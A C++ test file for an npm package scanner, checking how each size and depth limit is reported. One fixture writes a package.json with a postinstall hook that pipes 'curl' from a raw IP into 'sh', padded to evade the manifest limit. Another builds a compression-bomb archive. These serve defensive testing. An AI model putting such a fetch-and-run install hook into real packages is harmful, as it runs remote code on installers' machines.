// Limits (include/airlock/core/limits.h): every named bound, hit through the whole package
// scan, with what the user sees when it trips (a target error naming the flag, or a finding).
// The artifact-layer mechanics of the same limits are in artifact_test.cpp.
#include "airlock/core/limits.h"

#include <archive.h>
#include <archive_entry.h>
#include <gtest/gtest.h>
#include <stdlib.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <memory>
#include <sstream>
#include <string>
#include <vector>

#include "airlock/analyze/package_scan.h"
#include "airlock/analyze/scan_driver.h"
#include "airlock/artifact/artifact.h"
#include "airlock/core/sink.h"
#include "test_util.h"

namespace airlock {
namespace {

namespace fs = std::filesystem;

using airlock::testing::TempDir;

// A tar.gz written with libarchive; `zeros` entries are files of that many zero bytes,
// streamed, never held in memory.
struct TarFile {
  std::string name;
  std::string data;
  std::uint64_t zeros = 0;
};

struct ArchiveWriteFree {
  void operator()(archive* a) const { archive_write_free(a); }
};
struct EntryFree {
  void operator()(archive_entry* e) const { archive_entry_free(e); }
};

void write_tgz(const fs::path& out, const std::vector<TarFile>& files) {
  std::unique_ptr<archive, ArchiveWriteFree> a(archive_write_new());
  ASSERT_EQ(archive_write_set_format_ustar(a.get()), ARCHIVE_OK);
  ASSERT_EQ(archive_write_add_filter_gzip(a.get()), ARCHIVE_OK);
  ASSERT_EQ(archive_write_open_filename(a.get(), out.c_str()), ARCHIVE_OK);
  for (const TarFile& f : files) {
    std::uint64_t size = f.zeros ? f.zeros : f.data.size();
    std::unique_ptr<archive_entry, EntryFree> e(archive_entry_new());
    archive_entry_copy_pathname(e.get(), f.name.c_str());
    archive_entry_set_filetype(e.get(), AE_IFREG);
    archive_entry_set_perm(e.get(), 0644);
    archive_entry_set_size(e.get(), static_cast<la_int64_t>(size));
    ASSERT_EQ(archive_write_header(a.get(), e.get()), ARCHIVE_OK);
    if (f.zeros) {
      std::string block(1 << 20, '\0');
      for (std::uint64_t left = f.zeros; left > 0;) {
        std::size_t n = static_cast<std::size_t>(std::min<std::uint64_t>(left, block.size()));
        ASSERT_EQ(archive_write_data(a.get(), block.data(), n), static_cast<la_ssize_t>(n));
        left -= n;
      }
    } else if (!f.data.empty()) {
      ASSERT_EQ(archive_write_data(a.get(), f.data.data(), f.data.size()),
                static_cast<la_ssize_t>(f.data.size()));
    }
  }
  ASSERT_EQ(archive_write_close(a.get()), ARCHIVE_OK);
}

std::shared_ptr<const analyze::Engine> engine_with(const Limits& limits) {
  analyze::EngineOptions o;
  o.rules.shipped = true;  // the rules compiled into the binary, nothing else
  o.limits = limits;
  auto e = analyze::Engine::create(o);
  EXPECT_TRUE(e) << e.error().message;
  return e ? *e : nullptr;
}

analyze::TargetResult scan(const Limits& limits, const fs::path& p) {
  auto engine = engine_with(limits);
  if (!engine) return {};
  auto specs = artifact::discover(p.string(), limits);
  EXPECT_TRUE(specs);
  EXPECT_EQ(specs->size(), 1u);
  analyze::PackageScanner scanner(*engine);
  return scanner.scan(specs->front());
}

const Finding* find_rule(const analyze::TargetResult& r, std::string_view rule) {
  for (const Finding& f : r.findings) {
    if (f.rule == rule) return &f;
  }
  return nullptr;
}

bool any_error_has(const analyze::TargetResult& r, std::string_view part) {
  return std::any_of(r.errors.begin(), r.errors.end(),
                     [&](const std::string& e) { return e.find(part) != std::string::npos; });
}

std::string dump(const analyze::TargetResult& r) {
  std::string s = "errors:";
  for (const auto& e : r.errors) s += " [" + e + "]";
  s += " findings:";
  for (const auto& f : r.findings) {
    s += " [" + f.rule + " " + std::string(to_string(f.severity)) + " " + f.message + "]";
  }
  return s;
}

const std::string kPackageJson = R"({"name":"limits-pkg","version":"3.1.4"})";

// ---------------------------------------------------------------------------------------

TEST(Limits, DefaultsAreTheDocumentedValues) {
  // The CLI help text and docs quote these numbers.
  Limits l;
  EXPECT_EQ(l.max_total_bytes, 1024ull << 20);
  EXPECT_EQ(l.max_entries, 100'000u);
  EXPECT_EQ(l.max_ratio, 200.0);
  EXPECT_EQ(l.max_file_bytes, 32ull << 20);
  EXPECT_EQ(l.max_json_depth, 64);
  EXPECT_EQ(l.max_manifest_bytes, 4ull << 20);
  EXPECT_EQ(l.max_dir_depth, 64);
  EXPECT_EQ(l.max_targets, 200'000u);
  EXPECT_EQ(kRatioCheckFloor, 16ull << 20);
  EXPECT_EQ(kMaxEvidenceBytes, 200u);
  EXPECT_EQ(kMaxFindingsPerTarget, 500u);
  // Relations the code relies on.
  EXPECT_LT(l.max_manifest_bytes, l.max_file_bytes);
  EXPECT_LT(l.max_file_bytes, l.max_total_bytes);
  EXPECT_LT(kRatioCheckFloor, l.max_total_bytes);
}

TEST(Limits, MaxTotalBytesIsATargetErrorAndKeepsWhatWasRead) {
  TempDir t;
  fs::path tgz = t.path() / "total.tgz";
  write_tgz(tgz, {{"package/package.json", kPackageJson},
                  {"package/a.js", std::string(4000, 'a')},
                  {"package/b.js", std::string(4000, 'b')}});
  Limits limits;
  limits.max_total_bytes = 6000;
  auto r = scan(limits, tgz);
  EXPECT_TRUE(any_error_has(r, "--max-total-mb")) << dump(r);
  EXPECT_EQ(r.info.name, "limits-pkg");
  EXPECT_EQ(r.info.version, "3.1.4");
}

TEST(Limits, MaxEntriesIsATargetError) {
  TempDir t;
  fs::path tgz = t.path() / "entries.tgz";
  std::vector<TarFile> files = {{"package/package.json", kPackageJson}};
  for (int i = 0; i < 20; ++i) files.push_back({"package/f" + std::to_string(i) + ".js", "1;"});
  write_tgz(tgz, files);
  Limits limits;
  limits.max_entries = 10;
  auto r = scan(limits, tgz);
  EXPECT_TRUE(any_error_has(r, "more than 10 entries")) << dump(r);
  EXPECT_TRUE(any_error_has(r, "--max-entries")) << dump(r);
  EXPECT_EQ(r.info.name, "limits-pkg");
}

TEST(Limits, MaxRatioIsATargetErrorThatSaysBomb) {
  TempDir t;
  fs::path tgz = t.path() / "bomb.tgz";
  write_tgz(tgz, {{"package/package.json", kPackageJson},
                  {"package/zeros.bin", "", kRatioCheckFloor + (4u << 20)}});
  auto r = scan(Limits{}, tgz);
  EXPECT_TRUE(any_error_has(r, "compression ratio")) << dump(r);
  EXPECT_TRUE(any_error_has(r, "bomb")) << dump(r);
  EXPECT_EQ(r.info.name, "limits-pkg");
}

TEST(Limits, MaxFileBytesGivesAnInfoFindingWithTheHash) {
  TempDir t;
  fs::path tgz = t.path() / "big.tgz";
  write_tgz(tgz, {{"package/package.json", kPackageJson},
                  {"package/dist/app.min.js", std::string(3 << 20, 'x')}});
  Limits limits;
  limits.max_file_bytes = 1 << 20;
  auto r = scan(limits, tgz);
  EXPECT_TRUE(r.errors.empty()) << dump(r);
  const Finding* f = find_rule(r, "file-too-large");
  ASSERT_NE(f, nullptr) << dump(r);
  EXPECT_EQ(f->severity, Severity::kInfo);
  ASSERT_TRUE(f->location);
  EXPECT_EQ(f->location->path, "dist/app.min.js");
  EXPECT_EQ(f->evidence.rfind("sha256:", 0), 0u) << f->evidence;
  EXPECT_NE(f->message.find("3 MiB"), std::string::npos) << f->message;
}

TEST(Limits, MaxJsonDepthMakesTheManifestUnparsable) {
  TempDir t;
  auto deep = [](int d) {
    return R"({"name":"deep","version":"1.0.0","x":)" + std::string(d, '[') + std::string(d, ']') +
           "}";
  };
  // The manifest object itself is one level.
  t.write("ok/package.json", deep(Limits{}.max_json_depth - 1));
  t.write("over/package.json", deep(Limits{}.max_json_depth));
  auto ok = scan(Limits{}, t.path() / "ok");
  EXPECT_EQ(find_rule(ok, "manifest-unparsable"), nullptr) << dump(ok);
  EXPECT_EQ(ok.info.name, "deep");
  auto over = scan(Limits{}, t.path() / "over");
  const Finding* f = find_rule(over, "manifest-unparsable");
  ASSERT_NE(f, nullptr) << dump(over);
  EXPECT_NE(f->message.find("deeper than 64"), std::string::npos) << f->message;
  // Raised by the flag, it parses.
  Limits lax;
  lax.max_json_depth = 200;
  auto raised = scan(lax, t.path() / "over");
  EXPECT_EQ(find_rule(raised, "manifest-unparsable"), nullptr) << dump(raised);
}

// A package.json over max_manifest_bytes is not parsed. npm installs it all the same and
// runs its scripts, so padding package.json past the limit must not make the package look
// like "no manifest" (info): the user has to be told its scripts were not checked.
TEST(Limits, MaxManifestBytesIsReportedNotMistakenForNoManifest) {
  TempDir t;
  Limits limits;
  limits.max_manifest_bytes = 4096;
  std::string pj = R"({"name":"padded","version":"1.0.0","scripts":{"postinstall":)"
                   R"("curl -s http://203.0.113.7/i.sh | sh"},"description":")" +
                   std::string(8192, ' ') + "\"}";
  fs::path tgz = t.path() / "padded.tgz";
  write_tgz(tgz, {{"package/package.json", pj}, {"package/index.js", "1;"}});
  auto r = scan(limits, tgz);
  EXPECT_EQ(find_rule(r, "no-manifest"), nullptr) << "a manifest was there: " << dump(r);
  bool told = std::any_of(r.findings.begin(), r.findings.end(),
                          [](const Finding& f) {
                            return f.severity >= Severity::kMedium &&
                                   ((f.location && f.location->path == "package.json") ||
                                    f.message.find("package.json") != std::string::npos);
                          }) ||
              any_error_has(r, "package.json");
  EXPECT_TRUE(told) << dump(r);
  EXPECT_EQ(r.info.kind, "npm-tarball") << dump(r);
}

TEST(Limits, MaxDirDepthIsReported) {
  TempDir t;
  t.write("pkg/package.json", kPackageJson);
  std::string deep = "pkg";
  for (int i = 0; i < 6; ++i) deep += "/d";
  t.write(deep + "/x.js", "1;");
  Limits limits;
  limits.max_dir_depth = 3;
  auto r = scan(limits, t.path() / "pkg");
  bool told = std::any_of(r.findings.begin(), r.findings.end(),
                          [](const Finding& f) {
                            return f.message.find("deeper than 3") != std::string::npos;
                          }) ||
              any_error_has(r, "deeper than 3");
  EXPECT_TRUE(told) << dump(r);
}

class CollectSink : public FindingSink {
 public:
  void target(const TargetInfo& t) override { targets.push_back(t); }
  void finding(const Finding& f) override { findings.push_back(f); }
  void error(const TargetError& e) override { errors.push_back(e); }
  std::vector<TargetInfo> targets;
  std::vector<Finding> findings;
  std::vector<TargetError> errors;
};

TEST(Limits, MaxTargetsBoundsTheStdinList) {
  TempDir t;
  Limits limits;
  limits.max_targets = 3;
  auto engine = engine_with(limits);
  ASSERT_TRUE(engine);
  std::stringstream list;
  for (int i = 0; i < 10; ++i)
    list << (t.path() / ("missing" + std::to_string(i))).string() << "\n";
  analyze::ScanOptions opt;
  opt.stdin_list = &list;
  CollectSink sink;
  analyze::scan_inputs({"-"}, *engine, opt, sink);
  EXPECT_EQ(sink.targets.size(), 4u);  // three paths, then the note about the rest
  ASSERT_FALSE(sink.errors.empty());
  EXPECT_NE(sink.errors.back().message.find("more than 3 paths"), std::string::npos)
      << sink.errors.back().message;
}

TEST(Limits, MaxFindingsPerTargetTruncatesWithANote) {
  TempDir t;
  t.write("pkg/package.json", kPackageJson);
  const std::size_t n = kMaxFindingsPerTarget + 50;
  for (std::size_t i = 0; i < n; ++i) t.write("pkg/f/" + std::to_string(i) + ".bin", "xyz");
  Limits limits;
  limits.max_file_bytes = 2;  // every .bin is "too large": one info finding each
  auto r = scan(limits, t.path() / "pkg");
  ASSERT_EQ(r.findings.size(), kMaxFindingsPerTarget + 1) << r.findings.size();
  EXPECT_EQ(r.findings.back().rule, "findings-truncated");
  EXPECT_NE(r.findings.back().message.find("not reported"), std::string::npos);
}

TEST(Limits, MaxEvidenceBytesClipsEvidence) {
  TempDir t;
  t.write("pkg/package.json", R"({"name":"ev","version":"1.0.0","scripts":{"postinstall":")" +
                                  std::string("node install.js ") + std::string(1000, 'a') +
                                  "\"}}");
  t.write("pkg/install.js", "console.log(1)\n");
  auto r = scan(Limits{}, t.path() / "pkg");
  ASSERT_FALSE(r.findings.empty()) << dump(r);
  bool saw_long_source = false;
  for (const Finding& f : r.findings) {
    EXPECT_LE(f.evidence.size(), kMaxEvidenceBytes + 3) << f.rule;  // + "..."
    if (f.rule == "npm-install-script") saw_long_source = true;
  }
  EXPECT_TRUE(saw_long_source) << dump(r);
}

}  // namespace
}  // namespace airlock
